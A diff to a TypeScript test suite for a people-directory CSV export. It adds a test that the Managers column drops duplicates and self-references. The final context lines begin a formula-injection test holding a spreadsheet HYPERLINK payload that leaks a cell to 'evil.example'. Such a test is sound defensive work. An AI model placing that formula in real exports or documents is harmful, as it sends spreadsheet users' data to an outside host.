@@ -192,6 +192,23 @@ describe('/export/people.csv', () => {
     });
   });
 
+  it('names the managers the profile names: not the person themself, nor one listed twice (docs/architecture.md §14)', async () => {
+    await withEnv(OPEN, async () => {
+      const report = dir.runtime.view.people.list().find((p) => p.managerIds.length === 1 && dir.runtime.view.people.get(p.managerIds[0]!))!;
+      const manager = dir.runtime.view.people.get(report.managerIds[0]!)!;
+      const managerField = String(dir.runtime.view.people.fieldRoles().manager);
+      await dir.control('PATCH', `/demo/users/${report.id}`, { profile_data: { [managerField]: JSON.stringify([report.id, manager.id, manager.id]) } });
+      try {
+        await until(() => dir.runtime.view.people.get(report.id)?.managerIds.length === 3, 'the manager field');
+        const row = (await csv('?sort=name')).rows.find((r) => idOf(r['Profile URL']!) === report.id)!;
+        expect(row.Managers).toBe(manager.name);
+      } finally {
+        await dir.control('PATCH', `/demo/users/${report.id}`, { profile_data: { [managerField]: JSON.stringify([manager.id]) } });
+        await until(() => dir.runtime.view.people.get(report.id)?.managerIds.length === 1, 'the manager field back');
+      }
+    });
+  });
+
   it('neutralises cells a spreadsheet would run as formulas, also after a separator, and quotes every cell', async () => {
     await withEnv(OPEN, async () => {
       const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
